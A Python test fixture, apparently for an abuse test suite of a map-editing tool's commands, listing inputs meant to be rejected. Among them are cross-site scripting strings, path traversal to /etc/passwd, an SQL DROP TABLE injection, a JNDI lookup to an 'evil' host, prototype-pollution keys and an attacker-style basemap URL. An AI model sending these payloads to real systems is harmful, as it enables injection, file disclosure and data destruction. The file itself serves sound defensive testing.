"""What an attacker puts into a command besides data: filters, looks, places. None of it can be done."""

from __future__ import annotations

from typing import Any

from tests.abuse.kit.hostile_data import nested
from tests.abuse.kit.refusals import FEATURE, add, do

WIDE = "x" * 200_000


def drawn(**layer: Any) -> dict[str, Any]:
    return add(FEATURE, layers=[{"type": "circle", **layer}])


def look(**properties: Any) -> dict[str, Any]:
    return do("set_layer_paint", layer_id="stop", properties=properties)


EXPRESSIONS: dict[str, Any] = {
    "text": "alert(1)",
    "nothing": [],
    "number": [1],
    "unknown": ["eval", "alert(1)"],
    "prototype": ["__proto__"],
    "constructor": ["constructor", "return this"],
    "inner": ["all", ["eval", 1]],
    "deprecated": ["in", "kind", "a", "b"],
    "deep": ["!", nested(100)],
    "object": {"a": 1},
}
FILTERS = {name: do("filter_layer", layer_id="stop", filter=value) for name, value in EXPRESSIONS.items()}
STYLES = {
    "none": add(FEATURE, layers=[]),
    "text": add(FEATURE, layers="circle"),
    "many": add(FEATURE, layers=[{"type": "circle"}] * 200),
    "number": add(FEATURE, layers=[7]),
    "list": add(FEATURE, layers=[[{"type": "circle"}]]),
    "custom": drawn(type="custom", render="alert(1)"),
    "background": drawn(type="background"),
    "prototype-type": drawn(type="__proto__"),
    "of-pictures": drawn(type="raster"),
    "another-source": drawn(source="mapsrv:basemap"),
    "ours": drawn(id="mapsrv:label"),
    "lines-in-id": drawn(id="a\nb"),
    "ref": drawn(ref="stop"),
    "unknown-key": drawn(onclick="alert(1)"),
    "zoom": drawn(minzoom=-1),
    "zoom-text": drawn(maxzoom="24"),
    "source-layer": drawn(**{"source-layer": "a"}),
    "filter": drawn(filter="alert(1)"),
    "filter-deep": drawn(filter=["!", nested(100)]),
    "paint-list": drawn(paint=["circle-color"]),
    "paint-unknown": drawn(paint={"constructor": 1}),
    "paint-prototype": drawn(paint={"__proto__": {"a": 1}}),
    "paint-color": drawn(paint={"circle-color": "url(javascript:alert(1))"}),
    "paint-css": drawn(paint={"circle-color": "red;background:url(//evil)"}),
    "paint-html": drawn(paint={"circle-color": "<img src=x onerror=alert(1)>"}),
    "paint-number": drawn(paint={"circle-radius": "9px"}),
    "paint-huge": drawn(paint={"circle-opacity": 1e308}),
    "paint-expression": drawn(paint={"circle-radius": ["eval", 1]}),
    "layout-of-paint": drawn(layout={"circle-color": "red"}),
    "layout-visibility": drawn(layout={"visibility": "maybe"}),
    "metadata": drawn(metadata="x"),
    "look-unknown": look(**{"line-colour": "red"}),
    "look-prototype": look(__proto__={"a": 1}),
    "look-nothing": look(),
    "look-text": do("set_layer_paint", layer_id="stop", properties="circle-color: red"),
    "look-two-ways": do("set_layer_paint", layer_id="stop", property="x", properties={}),
    "look-no-value": do("set_layer_paint", layer_id="stop", property="circle-color"),
    "look-long": do("set_layer_paint", layer_id="stop", property=WIDE, value=1),
    "look-visibility": look(visibility=WIDE),
    "look-zoom": look(minzoom=1e308),
}
PLACES = {
    "view-nothing": do("set_map_view"),
    "view-booleans": do("set_map_view", center=[True, False]),
    "view-nested": do("set_map_view", center=[[[8]], 47]),
    "view-object": do("set_map_view", center={"lng": {}, "lat": 47}),
    "view-huge": do("set_map_view", center=[1e308, 1e308]),
    "view-text": do("set_map_view", center="8;47"),
    "view-script": do("set_map_view", center="javascript:alert(1)"),
    "zoom-huge": do("set_map_view", zoom=1e308),
    "zoom-integer": do("set_map_view", zoom=10**300),
    "zoom-low": do("set_map_view", zoom=-99),
    "pitch": do("set_map_view", pitch=1e9),
    "bearing": do("set_map_view", bearing="north"),
    "bounds-huge": do("set_map_view", bounds=[-1e308, -1e308, 1e308, 1e308]),
    "bounds-null": do("set_map_view", bounds=[None] * 4),
    "padding": do("set_map_view", layer_id="stop", padding=-1),
    "padding-huge": do("set_map_view", layer_id="stop", padding=1e300),
    "layer": do("set_map_view", layer_id="../../etc/passwd"),
    "features": do("set_map_view", layer_id="stop", feature_ids=[404]),
    "features-many": do("set_map_view", layer_id="stop", feature_ids=list(range(20_000))),
    "features-nested": do("set_map_view", layer_id="stop", feature_ids=nested(50)),
    "move-both": do("move_layer", layer_id="stop", below="a", above="b"),
    "move-sideways": do("move_layer", layer_id="stop", to="left"),
    "move-to-nobody": do("move_layer", layer_id="stop", above="__proto__"),
    "below-nobody": add(FEATURE, below="<script>"),
    "basemap-path": do("set_basemap", name="../../etc/passwd"),
    "basemap-address": do("set_basemap", name="https://evil.example/style.json"),
    "basemap-prototype": do("set_basemap", name="constructor"),
    "basemap-object": do("set_basemap", name={"version": 8}),
    "toggle": do("toggle_layer", layer_id="stop", action="destroy"),
    "toggle-list": do("toggle_layer", layer_id=["stop"]),
    "toggle-prototype": do("toggle_layer", layer_id="constructor"),
    "remove-all": do("remove_layer", layer_id="*"),
    "remove-null": do("remove_layer", layer_id=None),
    "reset-object": do("reset_layer_style", layer_id={"$ne": None}),
    "details-nothing": do("set_layer_details", layer_id="stop"),
    "details-lines": do("set_layer_details", layer_id="stop", title="a\r\nb"),
    "details-attribution": do("set_layer_details", layer_id="stop", attribution="a\x00b"),
    "title-long": do("open_map", title="x" * 201),
    "title-object": do("open_map", title={"toString": "x"}),
    "new-text": do("open_map", new="of course"),
    "sql": do("remove_layer", layer_id="'; DROP TABLE maps; --"),
    "format": do("remove_layer", layer_id="{0.__class__}%s%n${jndi:ldap://evil}"),
}
LOOKS = {
    **{f"filter-{name}": value for name, value in FILTERS.items()},
    **{f"style-{name}": value for name, value in STYLES.items()},
    **{f"place-{name}": value for name, value in PLACES.items()},
}
